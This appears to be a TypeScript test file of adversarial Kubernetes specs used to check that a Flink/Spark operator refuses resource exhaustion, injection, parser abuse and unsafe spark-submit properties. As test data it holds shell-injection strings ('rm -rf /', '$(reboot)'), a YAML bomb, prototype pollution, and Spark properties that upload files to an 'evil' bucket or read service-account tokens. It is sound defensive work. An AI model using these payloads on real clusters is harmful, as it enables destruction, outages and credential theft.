import { type Attack, at, connect, flink, options, properties, schedule, snapshot, spark } from './attack.ts';

/** Nearly as much as a spec of Flink's kinds may hold. */
const LONG = 350_000;

function nested(levels: number): unknown {
  let value: unknown = 'x';
  for (let level = 0; level < levels; level++) value = { a: value };
  return value;
}

function numbered<T>(count: number, item: (index: number) => T): readonly T[] {
  return Array.from({ length: count }, (_, index) => item(index));
}

/** Nine lists of nine lists of nine …: some hundred megabytes to whoever writes it out. */
const BOMB = `[&a [${'x,'.repeat(9)}]${[...'bcdefghi']
  .map((name, index) => `, &${name} [${`*${'abcdefgh'[index]},`.repeat(9)}]`)
  .join('')}]`;

/** T10: as much of everything as the API server takes. */
const EXHAUSTION: readonly Attack[] = [
  options(
    'T10',
    'a megabyte of configuration',
    { 'env.text': 'x'.repeat(1_000_000) },
    {
      refused: 'spec.flinkConfiguration',
    },
  ),
  options('T10', 'five thousand options', Object.fromEntries(numbered(5000, (n) => [`k${n}`, 'x'])), {}),
  flink('T10', 'five thousand containers', {
    podTemplate: { spec: { containers: numbered(5000, (n) => ({ name: `c${n}` })) } },
  }),
  flink(
    'T10',
    'every parallelism there is',
    { job: { parallelism: 2_147_483_647 } },
    {
      refused: 'spec.job.parallelism',
    },
  ),
  options('T10', 'a snapshot every millisecond', {
    'kubernetes.operator.periodic.savepoint.interval': '1 ms',
    'state.savepoints.dir': 's3://a',
  }),
  schedule('T10', 'a file as time zone', { schedule: 'TZ=../../etc/passwd * * * * *' }, { refused: 'spec.schedule' }),
  schedule(
    'T10',
    'a hundred thousand times a day',
    { schedule: `${'1,'.repeat(100_000)}1 * * * *` },
    { refused: 'spec.schedule' },
  ),
  snapshot('T10', 'attempts without end', {
    savepoint: {},
    backoffLimit: -1,
    jobReference: { kind: 'FlinkDeployment', name: 'no-such-job' },
  }),
  spark('T10', 'ten thousand volumes', { volumes: numbered(10_000, (n) => ({ name: `v${n}`, emptyDir: {} })) }),
  spark(
    'T10',
    'five thousand Ingresses',
    {
      driverIngressOptions: numbered(5000, () => ({ servicePort: 80 })),
    },
    { refused: 'spec.driverIngressOptions[1].servicePort' },
  ),
  properties('T10', 'ten thousand properties', Object.fromEntries(numbered(10_000, (n) => [`spark.k${n}`, 'x']))),
  connect('T10', 'every executor there is', { executor: { instances: 2_147_483_647 } }),
];

/** T12: text that becomes lines, commands, addresses or series somewhere else. */
const INJECTION: readonly Attack[] = [
  options('T12', 'a second option behind a line', { 'env.a': 'x\nkubernetes.namespace: kube-system' }),
  options(
    'T12',
    'the same to a file of lines',
    { 'env.a': 'x\nkubernetes.namespace: kube-system' },
    {
      spec: { flinkVersion: 'v1_18' },
    },
  ),
  options(
    'T12',
    'a comment',
    { 'env.a': 'x # y' },
    {
      spec: { flinkVersion: 'v1_18' },
    },
  ),
  options('T12', 'an option behind the end of a document', { 'env.a': 'x\n---\nkubernetes.namespace: kube-system' }),
  options('T12', 'variables', { 'env.a': '\u0024{KUBERNETES_SERVICE_HOST} $(cat /etc/passwd) {{.}}' }),
  flink('T12', 'arguments for a shell', { job: { args: ['; rm -rf /', '$(reboot)', '`reboot`', "'", '"', '\\'] } }),
  flink('T12', 'a class for a shell', { job: { entryClass: 'A; rm -rf /' } }),
  properties('T12', 'a second property behind a line', {
    'spark.app.name': 'x\nspark.kubernetes.namespace=kube-system\r\nspark.master=k8s://evil\\',
  }),
  properties(
    'T12',
    'a property with a line in its name',
    { 'spark.a\nspark.master': 'x' },
    {
      refused: at('sparkConf', 'spark.a\\nspark.master'),
    },
  ),
  spark('T12', 'arguments for a shell', {
    arguments: ['; rm -rf /', '$(reboot)', '$(SPARK_DRIVER_BIND_ADDRESS)', '\n'],
  }),
  spark('T12', 'colours and commands for a terminal', { mainClass: '\u001b[2J\u001b]0;owned\u0007\u009b31m' }),
  spark(
    'T12',
    'words that look like others',
    { mainApplicationFile: 'lоcal:///opt/spark/a.jar' },
    {
      refused: 'spec.mainApplicationFile',
    },
  ),
  flink(
    'T12',
    'labels of the operator',
    {},
    {
      metadata: { labels: { app: 'weir', type: 'flink-native-kubernetes', 'app.kubernetes.io/name': 'weir' } },
    },
  ),
  spark(
    'T12',
    'labels that are told by',
    { driver: { labels: { 'spark-role': 'executor' } } },
    {
      refused: 'spec.driver.labels.spark-role',
    },
  ),
  ...numbered(5, (n) =>
    spark('T12', `a value for a metric, ${n}`, {}, { metadata: { labels: { team: `t${n}-${'x'.repeat(50)}` } } }),
  ),
];

/** T13: what a program in JavaScript, or a regular expression, stumbles over. */
const LANGUAGE: readonly Attack[] = [
  options('T13', 'a prototype', {
    ['__proto__']: { polluted: 'yes' },
    constructor: { prototype: { polluted: 'yes' } },
  }),
  flink('T13', 'a prototype in a template', {
    podTemplate: JSON.parse('{"__proto__":{"spec":{"hostNetwork":true}},"metadata":{"labels":{"__proto__":"x"}}}'),
  }),
  properties('T13', 'names of methods', { toString: 'x', hasOwnProperty: 'x', constructor: 'x' }),
  options('T13', 'slashes for a regular expression', {
    'high-availability.type': 'kubernetes',
    'high-availability.storageDir': `s3:${'/'.repeat(LONG)}x`,
  }),
  options(
    'T13',
    'white space for a regular expression',
    { 'env.a': `a${' '.repeat(LONG)}b` },
    {
      spec: { flinkVersion: 'v1_18' },
    },
  ),
  options(
    'T13',
    'a key of nothing but levels',
    { ['a.'.repeat(LONG / 2)]: 'x' },
    {
      refused: 'spec.flinkConfiguration',
    },
  ),
  options('T13', 'a YAML bomb', {
    'kubernetes.jobmanager.labels': `{a: ${BOMB}}`,
    'kubernetes.taskmanager.tolerations': BOMB,
  }),
  flink('T13', 'nesting', { podTemplate: { spec: { affinity: nested(2000) } } }, { refused: 'spec' }),
  options('T13', 'nested options', { a: nested(2000) }, { refused: 'spec' }),
  spark('T13', 'nesting', { driver: { template: { spec: { affinity: nested(2000) } } } }, { refused: 'spec' }),
  flink('T13', 'a number that is rounded', { restartNonce: 2 ** 60 }, { refused: 'spec.restartNonce' }),
  flink('T13', 'digits without end', { jobManager: { resource: { cpu: 1, memory: `${'9'.repeat(LONG)}b` } } }),
  spark(
    'T13',
    'digits without end',
    { driver: { memory: `1${' '.repeat(LONG)}!` } },
    { refused: 'spec.driver.memory' },
  ),
  flink(
    'T13',
    'braces for a template',
    { ingress: { template: '{{'.repeat(LONG / 2) } },
    {
      refused: 'spec.ingress.template',
    },
  ),
  options('T13', 'a cron expression for a regular expression', {
    'kubernetes.operator.periodic.savepoint.interval': `0 0 0 ? * ${'1,'.repeat(LONG / 2)}1`,
    'state.savepoints.dir': 's3://a',
  }),
];

/** T14: properties by which spark-submit reads files, fetches packages or runs code on the machine that submits. */
const SUBMISSION: readonly Attack[] = [
  properties('T14', 'files to be uploaded', { 'spark.kubernetes.file.upload.path': 's3a://evil/' }),
  properties('T14', 'packages to be fetched', {
    'spark.jars.packages': 'org.evil:evil:1',
    'spark.jars.repositories': 'https://169.254.169.254/',
    'spark.jars.ivySettings': '/var/run/secrets/kubernetes.io/serviceaccount/token',
  }),
  spark(
    'T14',
    'files of the operator',
    { deps: { files: ['file:///var/run/secrets/token'] } },
    {
      refused: 'spec.deps.files[0]',
    },
  ),
  spark('T14', 'a jar of the operator', { deps: { jars: ['/app/weir.mjs'] } }, { refused: 'spec.deps.jars[0]' }),
  ...[
    'spark.master',
    'spark.kubernetes.driver.master',
    'spark.driver.host',
    'spark.kubernetes.driver.pod.featureSteps',
    'spark.kubernetes.driver.container.image',
  ].map((key) => properties('T14', key, { [key]: 'x' }, { refused: at('sparkConf', key) })),
  ...['../../kube-system/pods/x', 'a/../b', 'UPPER', ''].map((name) =>
    properties(
      'T14',
      `driver pod ${JSON.stringify(name)}`,
      { 'spark.kubernetes.driver.pod.name': name },
      {
        refused: at('sparkConf', 'spark.kubernetes.driver.pod.name'),
      },
    ),
  ),
  properties('T14', 'labels by which applications are told', {
    'spark.kubernetes.driver.label.sparkoperator.k8s.io/app-name': 'victim',
    'spark.kubernetes.driver.label.sparkoperator.k8s.io/submission-id': 'victim',
  }),
  properties('T14', 'plugins', { 'spark.plugins': 'org.evil.Plugin', 'spark.extraListeners': 'org.evil.Listener' }),
  properties('T14', 'a Secret as variable of the driver', {
    'spark.kubernetes.driver.secretKeyRef.TOKEN': 'operator-token:token',
  }),
];

/** Attacks by what resources hold. */
export const CONTENT: readonly Attack[] = [...EXHAUSTION, ...INJECTION, ...LANGUAGE, ...SUBMISSION];
